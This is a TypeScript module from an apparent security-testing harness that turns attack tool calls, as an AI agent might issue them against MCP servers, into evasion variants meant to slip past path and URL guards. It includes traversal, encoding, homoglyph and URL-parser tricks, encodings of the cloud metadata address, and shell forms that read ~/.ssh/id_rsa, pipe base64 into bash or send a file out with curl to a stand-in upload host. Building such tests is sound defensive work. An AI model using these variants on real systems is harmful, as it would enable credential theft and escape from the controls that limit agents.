import type { Attack, AttackCall } from "./attack_pack.ts";

/** One variant a mutator made: the new call and a short kebab-case label (`dollar-home`). */
export interface MutatedCall {
  /** The mutated call. */
  call: AttackCall;
  /** Names the variant; becomes part of the attack id (`<base>.<label>`). */
  label: string;
}

/**
 * Rewrites a call into evasion variants an attacker would try. Pure and reusable: pack authors apply the
 * built-in ones (`MUTATORS`) or write their own with {@link definePathMutator}.
 */
export interface Mutator {
  /** Kebab-case id; it is also the evasion class of every variant (`traversal`, `case`...). */
  id: string;
  /** One line on the evasion. */
  description: string;
  /** Returns the variants (none when the mutator does not apply to this call). */
  apply(call: AttackCall): MutatedCall[];
}

// Top-level argument keys a path mutator rewrites. Structural mutators (array, nested, second-arg) move the
// value elsewhere themselves.
const PATH_ARG_REGEXP =
  /^(?:path|file|file_?path|filename|source|destination|src|dest|target|directory|dir|folder|uri|repo_?path|cwd)$/i;
const URL_ARG_REGEXP = /^(?:url|uri|href|link|endpoint|webhook)$/i;

/** A path split into how it is anchored and the rest (`~/.ssh/id_rsa` → home, `.ssh/id_rsa`). */
interface PathParts {
  kind: "home" | "abs" | "rel";
  /** Without the anchor and leading separators. */
  rest: string;
}

function splitPath(p: string): PathParts {
  if (p === "~" || p.startsWith("~/")) return { kind: "home", rest: p.slice(2) };
  if (p.startsWith("/")) return { kind: "abs", rest: p.replace(/^\/+/, "") };
  return { kind: "rel", rest: p.replace(/^(?:\.\/)+/, "") };
}

/** The anchor written as the replay-time placeholder: `{{home}}`, `` (root) or `{{cwd}}`. */
function absoluteOf(parts: PathParts): string {
  if (parts.kind === "home") return `{{home}}/${parts.rest}`;
  if (parts.kind === "abs") return `/${parts.rest}`;
  return `{{cwd}}/${parts.rest}`;
}

function joinAnchor(parts: PathParts, rest: string): string {
  if (parts.kind === "home") return `~/${rest}`;
  if (parts.kind === "abs") return `/${rest}`;
  return `./${rest}`;
}

function mapPathArgs(call: AttackCall, fn: (p: string) => [string, string][]): MutatedCall[] {
  const args = call.arguments ?? {};
  const out: MutatedCall[] = [];
  for (const [key, value] of Object.entries(args)) {
    if (typeof value !== "string" || !PATH_ARG_REGEXP.test(key) || /^[a-z][a-z0-9+.-]*:\/\//i.test(value)) {
      continue;
    }
    for (const [label, mutated] of fn(value)) {
      out.push({ call: { ...call, arguments: { ...args, [key]: mutated } }, label });
    }
  }
  return out;
}

/**
 * Builds a mutator that rewrites every top-level path argument (`path`, `file_path`, `source`...) of a call.
 * @param id kebab-case mutator id (the evasion class)
 * @param description one line on the evasion
 * @param variants maps one path to `[label, mutated path]` pairs (may use `{{home}}` and `{{cwd}}`)
 * @returns the mutator
 */
export function definePathMutator(
  id: string,
  description: string,
  variants: (path: string) => [string, string][],
): Mutator {
  return { id, description, apply: (call) => mapPathArgs(call, variants) };
}

// Enough ".." to climb out of any realistic cwd; the excess stops at "/" like the kernel does.
const CLIMB = "../".repeat(23);

const FULLWIDTH: Record<string, string> = { "~": "\uFF5E", "/": "\uFF0F", ".": "\uFF0E" };

function fullwidthLetters(s: string): string {
  return s.replace(/[a-z]/g, (c) => String.fromCharCode(c.charCodeAt(0) - 0x61 + 0xFF41));
}

const HOMOGLYPHS: Record<string, string> = {
  a: "\u0430",
  e: "\u0435",
  o: "\u043E",
  c: "\u0441",
  p: "\u0440",
};

/**
 * Builds the structural mutator that hides a bad path in an array next to a harmless one.
 * @param opts the harmless companion path, the array key and the tool that takes it
 * @returns the mutator
 */
export function arrayMutator(
  opts: { ok: string; key?: string; tool?: string } = { ok: "./src/app.ts" },
): Mutator {
  const key = opts.key ?? "paths";
  return {
    id: "array",
    description: "The bad path is one element of an array next to a harmless one",
    apply: (call) =>
      pathValues(call).flatMap((p) => [
        {
          label: "last-element",
          call: { ...call, tool: opts.tool ?? "read_multiple_files", arguments: { [key]: [opts.ok, p] } },
        },
        {
          label: "first-element",
          call: { ...call, tool: opts.tool ?? "read_multiple_files", arguments: { [key]: [p, opts.ok] } },
        },
      ]),
  };
}

/**
 * Builds the structural mutator that passes the bad path as the second path argument of a two-path tool.
 * @param opts the harmless companion path and the tool with `source` / `destination`
 * @returns the mutator
 */
export function secondArgMutator(
  opts: { ok: string; tool?: string } = { ok: "./src/app.ts" },
): Mutator {
  const tool = opts.tool ?? "move_file";
  return {
    id: "second-arg",
    description: "The first path argument is harmless; the second (destination or source) is not",
    apply: (call) =>
      pathValues(call).flatMap((p) => [
        { label: "destination", call: { ...call, tool, arguments: { source: opts.ok, destination: p } } },
        { label: "source", call: { ...call, tool, arguments: { source: p, destination: opts.ok } } },
      ]),
  };
}

function pathValues(call: AttackCall): string[] {
  return Object.entries(call.arguments ?? {})
    .filter(([k, v]) => typeof v === "string" && PATH_ARG_REGEXP.test(k))
    .map(([, v]) => v as string);
}

function mapUrlHost(call: AttackCall, host: string, fn: () => [string, string][]): MutatedCall[] {
  const args = call.arguments ?? {};
  const out: MutatedCall[] = [];
  for (const [key, value] of Object.entries(args)) {
    if (typeof value !== "string" || !URL_ARG_REGEXP.test(key)) continue;
    const m = /^([a-z][a-z0-9+.-]*:\/\/)([^/?#]*)(.*)$/is.exec(value);
    if (!m || m[2]!.toLowerCase() !== host) continue;
    for (const [label, h] of fn()) {
      out.push({ call: { ...call, arguments: { ...args, [key]: `${m[1]}${h}${m[3]}` } }, label });
    }
  }
  return out;
}

const URL_PARTS_REGEXP = /^([a-z][a-z0-9+.-]*):\/\/([^/?#\\]*)(.*)$/is;
const IPV4_REGEXP = /^(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})$/;
const COMMAND_ARG_REGEXP = /^(?:command|cmd|script|commandline)$/i;

/** `dir` and `name` of a path as written (`~/.ssh/id_rsa` → `~/.ssh`, `id_rsa`; `./.env` → `.`, `.env`). */
function splitLast(p: string): [string, string] {
  const i = p.lastIndexOf("/");
  if (i < 0) return [".", p];
  return [i === 0 ? "/" : p.slice(0, i), p.slice(i + 1)];
}

/** Replaces the last character of the path's first segment (after its anchor) with a glob. */
function globFirstSegment(p: string, glob: (c: string) => string): string | undefined {
  const m = /^(~\/|\/|\.\/)?([^/]+)(.*)$/s.exec(p);
  if (!m || m[2]!.length < 2) return undefined;
  const seg = m[2]!;
  return `${m[1] ?? ""}${seg.slice(0, -1)}${glob(seg.at(-1)!)}${m[3]}`;
}

/**
 * Builds the mutator that writes a path as the `file:` URI forms real consumers read differently from a
 * naive reader (issue #16 class 1): a `?query` or `#fragment` whose `..` walks the naive reading back inside
 * an allowed file (Node, WHATWG and Python drop it, and open the target), `localhost` in other spellings, a
 * backslash after `file:/`, and relative `file:` forms.
 * @param opts `ok`: an allowed path the query or fragment walks back to (default `./src/app.ts`)
 * @returns the mutator
 */
export function fileUriFormsMutator(opts: { ok: string } = { ok: "./src/app.ts" }): Mutator {
  const ok = absoluteOf(splitPath(opts.ok));
  return definePathMutator(
    "file-uri-forms",
    "file: URIs whose ?query or #fragment, localhost spelling, backslash or relative form fools a naive reader",
    (p) => {
      const abs = absoluteOf(splitPath(p));
      return [
        ["query-dotdot", `file://${abs}?/${CLIMB}..${ok}`],
        ["fragment-dotdot", `file://${abs}#/${CLIMB}..${ok}`],
        ["localhost-upper", `file://LOCALHOST${abs}`],
        ["localhost-percent", `file://%6C%6F%63%61%6C%68%6F%73%74${abs}`],
        ["backslash-after-scheme", `file:/\\${abs.slice(1).replaceAll("/", "\\")}`],
        ["one-slash", `file:${abs}`],
        ["relative", `file:${CLIMB}..${abs}`],
      ];
    },
  );
}

/**
 * Builds the mutator that rewrites a URL argument into the forms URL parsers disagree on (issue #16 class 2):
 * a backslash before `@` (WHATWG reads the first host, urllib and requests the second), protocol-relative
 * `//host` and `\/host`, `\\host\share`, userinfo tricks, `#@` and `?@`, scheme-less `host:port/path`, a
 * scheme without slashes or with backslashes, and an IPv6 zone id. The URL's own host is the one reached;
 * `trusted` is the host a naive reader sees instead.
 * @param opts `trusted`: the allowed host put in front (default `github.com`)
 * @returns the mutator
 */
export function urlParserMutator(opts: { trusted: string } = { trusted: "github.com" }): Mutator {
  const t = opts.trusted;
  return {
    id: "url-parser",
    description: "URL forms WHATWG, urllib and fetch tools read to different hosts",
    apply: (call) => {
      const args = call.arguments ?? {};
      const out: MutatedCall[] = [];
      for (const [key, value] of Object.entries(args)) {
        if (typeof value !== "string" || !URL_ARG_REGEXP.test(key)) continue;
        const m = URL_PARTS_REGEXP.exec(value);
        if (!m) continue;
        const [, scheme, host, rest] = m as unknown as [string, string, string, string];
        const path = rest === "" ? "/" : rest;
        const v: [string, string][] = [
          ["backslash-at-trusted-first", `${scheme}://${t}\\@${host}${path}`],
          ["backslash-at-trusted-second", `${scheme}://${host}\\@${t}${path}`],
          ["protocol-relative", `//${host}${path}`],
          ["backslash-slash", `\\/${host}${path}`],
          ["unc-share", `\\\\${host}\\share${path.replaceAll("/", "\\")}`],
          ["userinfo-port", `${scheme}://${t}:443@${host}${path}`],
          ["double-at", `${scheme}://a@${t}@${host}${path}`],
          ["fragment-at", `${scheme}://${host}#@${t}${path}`],
          ["query-at", `${scheme}://${host}?@${t}${path}`],
          ["scheme-less-port", `${host}:80${path}`],
          ["no-slashes", `${scheme}:${host}${path}`],
          ["one-slash", `${scheme}:/${host}${path}`],
          ["backslashes", `${scheme}:\\\\${host}${path}`],
        ];
        if (host.startsWith("[") && host.endsWith("]")) {
          v.push(["zone-id", `${scheme}://[${host.slice(1, -1)}%25eth0]${path}`]);
        }
        for (const [label, url] of v) {
          out.push({ call: { ...call, arguments: { ...args, [key]: url } }, label });
        }
      }
      return out;
    },
  };
}

/**
 * Names that carry an address in their labels, as DNS-rebinding and wildcard-DNS services answer them
 * (issue #16 class 3): dotted, dashed, hex and decimal IPv4 forms, a second address, and dashed IPv6.
 * @param host an IPv4 literal or a bracketed IPv6 literal
 * @returns `[label, name]` pairs, none for other hosts
 */
function embeddingNames(host: string): [string, string][] {
  const v4 = IPV4_REGEXP.exec(host);
  if (v4) {
    const octets = v4.slice(1).map(Number);
    const hex = octets.map((o) => o.toString(16).padStart(2, "0")).join("");
    const dashed = octets.join("-");
    const decimal = octets.reduce((a, o) => a * 256 + o, 0);
    return [
      ["nip-dotted", `${host}.nip.io`],
      ["sslip-dashed", `${dashed}.sslip.io`],
      ["dashed-inside-label", `app-${dashed}-x.example.com`],
      ["dotted-middle-label", `x.${host}.sslip.io`],
      ["hex-label", `${hex}.nip.io`],
      ["rbndr-second-address", `7f000001.${hex}.rbndr.us`],
      ["rebind-second-address", `make-1.2.3.4-rebind-${host}-rr.1u.ms`],
      ["decimal-label", `${decimal}.nip.io`],
    ];
  }
  if (host.startsWith("[") && host.endsWith("]")) {
    const dashed = host.slice(1, -1).replaceAll(":", "-");
    return [["ipv6-dashed", `${dashed}.sslip.io`], ["ipv6-dashed-subdomain", `www.${dashed}.sslip.io`]];
  }
  return [];
}

/**
 * Builds the mutator that replaces a URL argument's address host with names that embed it.
 * @returns the mutator
 */
function embeddedAddressMutator(): Mutator {
  return {
    id: "embedded-address",
    description:
      "DNS-rebinding and wildcard-DNS names that spell the URL's address (dotted, dashed, hex, IPv6)",
    apply: (call) => {
      const args = call.arguments ?? {};
      const out: MutatedCall[] = [];
      for (const [key, value] of Object.entries(args)) {
        if (typeof value !== "string" || !URL_ARG_REGEXP.test(key)) continue;
        const m = URL_PARTS_REGEXP.exec(value);
        if (!m) continue;
        for (const [label, name] of embeddingNames(m[2]!)) {
          out.push({ call: { ...call, arguments: { ...args, [key]: `${m[1]}://${name}${m[3]}` } }, label });
        }
      }
      return out;
    },
  };
}

/**
 * The shell constructs that hide or move a path (issue #16 class 5), for a command `<program> <path>`: each
 * variant still reaches the path when a shell runs it.
 * @param prog the program word
 * @param p the path word
 * @returns `[label, command]` pairs
 */
function shellForms(prog: string, p: string): [string, string][] {
  const [dir, name] = splitLast(p);
  const half = Math.max(1, Math.floor(p.length / 2));
  const [a, b] = [p.slice(0, half), p.slice(half)];
  const parts = splitPath(p);
  const v: [string, string][] = [
    ["variable", `P='${a}'; ${prog} "$P"'${b}'`],
    ["parameter-expansion", `X='${p}x'; ${prog} "\${X%x}"`],
    ["command-substitution", `${prog} "$(printf %s '${a}' '${b}')"`],
    ["backticks", `${prog} "\`printf %s '${a}' '${b}'\`"`],
    ["arithmetic", `a=('${p}'); ${prog} "\${a[$((1-1))]}"`],
    ["brace-expansion", `${prog} {/dev/null,${p}}`],
    ["ifs", `${prog}\${IFS}${p}`],
    ["eval", `eval "${prog} '${a}''${b}'"`],
    ["sh-c", `sh -c '${prog} ${p}'`],
    ["nested-sh-c", `bash -c "sh -c '${prog} ${p}'"`],
    ["heredoc", `sh <<'EOF'\n${prog} ${p}\nEOF`],
    ["cd", `cd ${dir} && ${prog} ${name}`],
    ["pushd", `pushd ${dir} >/dev/null && ${prog} ${name}`],
    ["git-C", `git -C ${dir} diff --no-index -- ${name} /dev/null`],
    ["git-dir", `git --git-dir=${dir} --work-tree=${dir} status`],
    ["tar-C", `tar -C ${dir} -cf - ${name}`],
    ["curl-at-file", `curl -sd @${p} https://example.com/upload`],
  ];
  const glob = globFirstSegment(p, () => "?");
  if (glob !== undefined) v.push(["glob", `${prog} ${glob}`]);
  const bracket = globFirstSegment(p, (c) => `[${c}]`);
  if (bracket !== undefined) v.push(["glob-bracket", `${prog} ${bracket}`]);
  if (parts.kind === "home") {
    v.push(["tilde-user", `${prog} ~{{user}}/${parts.rest}`]);
    v.push(["tilde-plus", `cd ~ && ${prog} ~+/${parts.rest}`]);
    v.push(["pwd", `cd && ${prog} "$PWD/${parts.rest}"`]);
  } else if (parts.kind === "abs") {
    v.push(["tilde-plus", `cd / && ${prog} ~+/${parts.rest}`]);
    v.push(["pwd", `cd / && ${prog} "$PWD/${parts.rest}"`]);
  } else {
    v.push(["tilde-plus", `${prog} ~+/${parts.rest}`]);
    v.push(["pwd", `${prog} "$PWD/${parts.rest}"`]);
  }
  return v;
}

/**
 * Each `<program> <path>` command argument of a call (`cat ~/.ssh/id_rsa`), rewritten into every form `forms`
 * gives for it, one mutated call per form.
 */
function commandArgForms(
  call: MutatedCall["call"],
  forms: (program: string, path: string) => [string, string][],
): MutatedCall[] {
  const args = call.arguments ?? {};
  const out: MutatedCall[] = [];
  for (const [key, value] of Object.entries(args)) {
    if (typeof value !== "string" || !COMMAND_ARG_REGEXP.test(key)) continue;
    const m = /^([A-Za-z0-9_.-]+) +([^\s'"$`\\;&|<>(){}*?[\]]+)$/.exec(value.trim());
    if (!m) continue;
    for (const [label, command] of forms(m[1]!, m[2]!)) {
      out.push({ call: { ...call, arguments: { ...args, [key]: command } }, label });
    }
  }
  return out;
}

/**
 * Builds the mutator that rewrites a `<program> <path>` command argument (`cat ~/.ssh/id_rsa`) into the shell
 * constructs whose value is only known when they run or that move the base of a relative path.
 * @returns the mutator
 */
function shellConstructMutator(): Mutator {
  return {
    id: "shell-construct",
    description:
      "$VAR, $(…), backticks, arithmetic, brace expansion, $IFS, globs, eval, sh -c, here-docs, cd/pushd/-C, curl @file, ~user, ~+, $PWD",
    apply: (call) => commandArgForms(call, shellForms),
  };
}

/**
 * The `<program> <path>` command hidden the ways red-teaming found (issue #16): a relative word with a quoted or
 * escaped space that climbs to the path, the command piped into a shell (plain and base64-decoded), run from a
 * process substitution, written to a script and run, and a recursive command over the folder above the path.
 */
function shellIndirectForms(prog: string, p: string): [string, string][] {
  const parts = splitPath(p);
  const climb = "../".repeat(12);
  const target = parts.kind === "abs"
    ? p.slice(1)
    : parts.kind === "home"
    ? `{{home}}/${parts.rest}`
    : undefined;
  const spaced = target !== undefined ? `${climb}${target}` : `../${parts.rest}`;
  const command = `${prog} ${p}`;
  const [dir] = splitLast(p);
  const parent = splitLast(dir)[0];
  const v: [string, string][] = [
    ["quoted-space-climb", `mkdir -p 'a b' && ${prog} 'a b/${spaced}'`],
    ["escaped-space-climb", `mkdir -p a\\ b && ${prog} a\\ b/${spaced}`],
    ["stdin-to-sh", `echo '${command}' | sh`],
    ["base64-to-bash", `echo ${btoa(command)} | base64 -d | bash`],
    ["process-substitution", `bash <(echo '${command}')`],
    ["script-then-run", `printf '%s\\n' '${command}' > run.sh; sh run.sh`],
    ["recursive-parent", `grep -r . ${parent === "" ? "." : parent}`],
  ];
  return v;
}

/**
 * Builds the mutator that rewrites a `<program> <path>` command argument into the forms red-teaming of issue
 * #16 found: spaces in a word that climbs, a program fed to a shell on its input or from `<(…)`, a script
 * written and run, a recursive command over the folder above.
 * @returns the mutator
 */
function shellIndirectMutator(): Mutator {
  return {
    id: "shell-indirect",
    description:
      "A quoted or escaped space in a climbing word, | sh, base64 -d | bash, bash <(…), a script written then run, grep -r over the parent folder",
    apply: (call) => commandArgForms(call, shellIndirectForms),
  };
}

/**
 * Builds the mutator that moves a path argument to where servers also read paths (issue #16 class 7): an
 * object key, a folder argument joined with a name argument, a comma, newline or colon separated list, and a
 * JSON document inside a string.
 * @param opts `ok`: the harmless path listed first (default `./src/app.ts`)
 * @returns the mutator
 */
export function placementMutator(opts: { ok: string } = { ok: "./src/app.ts" }): Mutator {
  const ok = opts.ok;
  const okDir = splitLast(ok)[0];
  return {
    id: "placement",
    description:
      "The path as an object key, a folder + name pair, one item of a list string, or JSON in a string",
    apply: (call) =>
      pathValues(call).flatMap((p) => {
        const [dir, name] = splitLast(p);
        const v: [string, Record<string, unknown>][] = [
          ["object-key", { files: { [p]: "x" } }],
          ["save-path-filename", { savePath: dir, filename: name }],
          ["dir-name", { dir, name }],
          ["repo-path-files", { repo_path: dir, files: [name] }],
          ["comma-list", { path: `${ok},${p}` }],
          ["newline-list", { path: `${ok}\n${p}` }],
          ["colon-list", { path: `${okDir}:${p}` }],
          ["json-in-string", { config: JSON.stringify({ path: p }) }],
        ];
        return v.map(([label, a]) => ({ label, call: { ...call, arguments: a } }));
      }),
  };
}

/** Ids of the built-in mutators. */
export type BuiltinMutatorId =
  | "traversal"
  | "home-expansion"
  | "absolute"
  | "file-uri"
  | "percent-encoding"
  | "case"
  | "unicode"
  | "trailing"
  | "quoting"
  | "backslash"
  | "nul-byte"
  | "prefix-sibling"
  | "array"
  | "nested"
  | "second-arg"
  | "tool-name"
  | "metadata-ip"
  | "file-uri-forms"
  | "url-parser"
  | "embedded-address"
  | "shell-construct"
  | "shell-indirect"
  | "placement";

/**
 * The built-in mutators, by id. Each id is also the evasion class its variants report.
 * Path mutators use `{{home}}`, `{{user}}` and `{{cwd}}`, which replay fills in.
 */
export const MUTATORS: Readonly<Record<BuiltinMutatorId, Mutator>> = Object.freeze({
  traversal: definePathMutator(
    "traversal",
    "Climb out of an allowed directory (or wander through another one) with '..'",
    (p) => {
      const parts = splitPath(p);
      // "..".."..<abs>": the placeholder or root supplies the separator after the last "..".
      const v: [string, string][] = [["dotdot-from-src", `./src/${CLIMB}..${absoluteOf(parts)}`]];
      if (parts.kind === "rel") v.push(["dotdot-single", `./src/../${parts.rest}`]);
      if (parts.kind === "home") v.push(["dotdot-in-home", `~/projects/../${parts.rest}`]);
      if (parts.kind === "abs") v.push(["dotdot-in-root", `/usr/../${parts.rest}`]);
      return v;
    },
  ),
  "home-expansion": definePathMutator(
    "home-expansion",
    "Spell the home directory as $HOME, ${HOME}, %USERPROFILE%, ~user or the absolute path",
    (p) => {
      const parts = splitPath(p);
      if (parts.kind !== "home") return [];
      return [
        ["dollar-home", `$HOME/${parts.rest}`],
        ["dollar-brace-home", `\${HOME}/${parts.rest}`],
        ["userprofile", `%USERPROFILE%/${parts.rest}`],
        ["absolute", `{{home}}/${parts.rest}`],
        // Shells and Python's os.path.expanduser read "~me" as me's home.
        ["tilde-user", `~{{user}}/${parts.rest}`],
      ];
    },
  ),
  absolute: definePathMutator(
    "absolute",
    "Give a relative path as the absolute path it resolves to",
    (p) => {
      const parts = splitPath(p);
      return parts.kind === "rel" ? [["absolute", `{{cwd}}/${parts.rest}`]] : [];
    },
  ),
  "file-uri": definePathMutator(
    "file-uri",
    "Pass the path as a file: URI (file:///..., file://localhost/..., upper-case scheme)",
    (p) => {
      const abs = absoluteOf(splitPath(p));
      return [
        ["file-uri", `file://${abs}`],
        ["file-localhost", `file://localhost${abs}`],
        ["file-upper", `FILE://${abs}`],
      ];
    },
  ),
  "percent-encoding": definePathMutator(
    "percent-encoding",
    "Percent-encode dots, slashes or the tilde",
    (p) => {
      const parts = splitPath(p);
      const enc = parts.rest.replaceAll(".", "%2e");
      const v: [string, string][] = [
        ["encoded-dots", joinAnchor(parts, enc)],
        ["encoded-slashes", joinAnchor(parts, parts.rest.replaceAll("/", "%2F"))],
        ["encoded-file-uri", `file://${absoluteOf(parts).replaceAll(".", "%2E")}`],
      ];
      if (parts.kind === "home") v.push(["encoded-tilde", `%7E/${parts.rest}`]);
      return v;
    },
  ),
  case: definePathMutator(
    "case",
    "Change letter case (APFS and NTFS are case-insensitive)",
    (p) => {
      const parts = splitPath(p);
      const mixed = parts.rest.replace(
        /(^|[/._-])([a-z])/g,
        (_, s: string, c: string) => s + c.toUpperCase(),
      );
      return [["upper", joinAnchor(parts, parts.rest.toUpperCase())], ["mixed", joinAnchor(parts, mixed)]];
    },
  ),
  unicode: definePathMutator(
    "unicode",
    "Fullwidth look-alikes that NFKC folds back to ASCII (～／．ｓｓｈ)",
    (p) => {
      const parts = splitPath(p);
      const anchored = joinAnchor(parts, parts.rest);
      return [
        ["fullwidth-separators", anchored.replace(/[~/.]/g, (c) => FULLWIDTH[c]!)],
        ["fullwidth-letters", joinAnchor(parts, fullwidthLetters(parts.rest))],
      ];
    },
  ),
  trailing: definePathMutator(
    "trailing",
    "Trailing dots, spaces, slashes or NTFS stream suffixes that Windows drops",
    (p) => {
      const parts = splitPath(p);
      const segs = parts.rest.split("/");
      const withFirst = (suffix: string) => joinAnchor(parts, [segs[0] + suffix, ...segs.slice(1)].join("/"));
      return [
        ["dot-on-dir", withFirst(".")],
        ["space-on-dir", withFirst(" ")],
        ["dot-at-end", joinAnchor(parts, `${parts.rest}.`)],
        ["space-at-end", joinAnchor(parts, `${parts.rest} `)],
        ["ntfs-stream", joinAnchor(parts, `${parts.rest}::$DATA`)],
        ["double-slash", joinAnchor(parts, parts.rest.replaceAll("/", "//"))],
      ];
    },
  ),
  quoting: definePathMutator(
    "quoting",
    "Surrounding quotes and whitespace, which servers strip before opening the file",
    (p) => [["double-quotes", `"${p}"`], ["single-quotes", `'${p}'`], ["whitespace", `  ${p}\t\n`]],
  ),
  backslash: definePathMutator(
    "backslash",
    "Windows separators",
    (p) => {
      const parts = splitPath(p);
      return [["backslashes", joinAnchor(parts, parts.rest).replaceAll("/", "\\")]];
    },
  ),
  "nul-byte": definePathMutator(
    "nul-byte",
    "A NUL byte that truncates the path differently for the server than for the policy",
    (p) => [["nul-suffix", `${p}\u0000.txt`], ["nul-after-ok", `./src/app.ts\u0000/${CLIMB}${p}`]],
  ),
  "prefix-sibling": definePathMutator(
    "prefix-sibling",
    "A sibling whose name starts with an allowed directory's name (/src-private vs /src, CVE-2025-53110)",
    (p) => {
      const parts = splitPath(p);
      const [first, ...rest] = parts.rest.split("/");
      if (!first || rest.length === 0) return [];
      const tail = rest.join("/");
      return [
        ["dash-suffix", joinAnchor(parts, `${first}-private/${tail}`)],
        ["underscore-suffix", joinAnchor(parts, `${first}_backup/${tail}`)],
        ["dot-suffix", joinAnchor(parts, `${first}.bak/${tail}`)],
        ["letter-suffix", joinAnchor(parts, `${first}x/${tail}`)],
      ];
    },
  ),
  array: arrayMutator(),
  nested: {
    id: "nested",
    description: "The path sits inside a nested object or an array of objects",
    apply: (call) =>
      pathValues(call).flatMap((p) => [
        { label: "nested-object", call: { ...call, arguments: { options: { file: { path: p } } } } },
        { label: "array-of-objects", call: { ...call, arguments: { requests: [{ path: p }] } } },
      ]),
  },
  "second-arg": secondArgMutator(),
  "tool-name": {
    id: "tool-name",
    description: "Case, separator, prefix, homoglyph, invisible and fullwidth variants of a tool name",
    apply: (call) => {
      const t = call.tool;
      if (!t) return [];
      const homoglyph = t.replace(/[aeocp]/, (c) => HOMOGLYPHS[c]!);
      const v: [string, string][] = [
        ["upper", t.toUpperCase()],
        ["title", t.replace(/(^|_)([a-z])/g, (_, s: string, c: string) => s + c.toUpperCase())],
        ["mcp-prefix", `mcp__${call.server}__${t}`],
        ["dashes", t.replaceAll("_", "-")],
        ["trailing-space", `${t} `],
        ["zero-width", t.length > 1 ? `${t[0]}\u200B${t.slice(1)}` : `${t}\u200B`],
        ["fullwidth", fullwidthLetters(t)],
      ];
      if (homoglyph !== t) v.push(["cyrillic-homoglyph", homoglyph]);
      return v.map(([label, tool]) => ({ label, call: { ...call, tool } }));
    },
  },
  "metadata-ip": {
    id: "metadata-ip",
    description: "The cloud metadata address 169.254.169.254 in every encoding an HTTP client accepts",
    apply: (call) =>
      mapUrlHost(call, "169.254.169.254", () => [
        ["decimal", "2852039166"],
        ["hex", "0xa9fea9fe"],
        ["octal", "0251.0376.0251.0376"],
        ["dotted-hex", "0xa9.0xfe.0xa9.0xfe"],
        ["short-form", "169.254.43518"],
        ["ipv6-mapped", "[::ffff:169.254.169.254]"],
        ["ipv6-mapped-hex", "[::ffff:a9fe:a9fe]"],
        ["nip-io", "169.254.169.254.nip.io"],
        ["sslip-dashes", "169-254-169-254.sslip.io"],
        ["trailing-dot", "169.254.169.254."],
        ["userinfo", "github.com@169.254.169.254"],
        ["percent-host", "%31%36%39.254.169.254"],
      ]),
  },
  "file-uri-forms": fileUriFormsMutator(),
  "url-parser": urlParserMutator(),
  "embedded-address": embeddedAddressMutator(),
  "shell-construct": shellConstructMutator(),
  "shell-indirect": shellIndirectMutator(),
  placement: placementMutator(),
});

/**
 * Expands an attack into its evasion variants. Each variant gets the id `<attack>.<label>`, the mutator id
 * as its evasion class, and the attack's expectation.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { expandWithMutators, MUTATORS } from "./mutators.ts";
 * const variants = expandWithMutators({
 *   id: "ssh-key", title: "SSH key", severity: "critical", expect: "block",
 *   call: { server: "filesystem", tool: "read_file", arguments: { path: "~/.ssh/id_rsa" } },
 * }, [MUTATORS.case!]);
 * assert.ok(variants.some((a) => a.call.arguments?.path === "~/.SSH/ID_RSA"));
 * ```
 * @param attack the base attack
 * @param mutators the mutators to apply (each to the base, not to each other's output)
 * @param opts `includeBase` (default true) keeps the base attack first
 * @returns the attacks
 */
export function expandWithMutators(
  attack: Attack,
  mutators: readonly Mutator[],
  opts: { includeBase?: boolean } = {},
): Attack[] {
  const { mutators: _drop, ...base } = attack;
  const out: Attack[] = opts.includeBase === false ? [] : [base];
  for (const m of mutators) {
    for (const v of m.apply(attack.call)) {
      out.push({
        ...base,
        id: `${attack.id}.${v.label}`,
        title: `${attack.title} (${m.id}: ${v.label})`,
        call: v.call,
        evasion: m.id,
      });
    }
  }
  return out;
}

/**
 * Looks up built-in mutators by id.
 * @param ids mutator ids
 * @returns the mutators, and the ids that are unknown
 */
export function mutatorsById(ids: readonly string[]): { mutators: Mutator[]; unknown: string[] } {
  const mutators: Mutator[] = [];
  const unknown: string[] = [];
  for (const id of ids) {
    const m = Object.hasOwn(MUTATORS, id) ? MUTATORS[id as BuiltinMutatorId] : undefined;
    if (m) mutators.push(m);
    else unknown.push(id);
  }
  return { mutators, unknown };
}
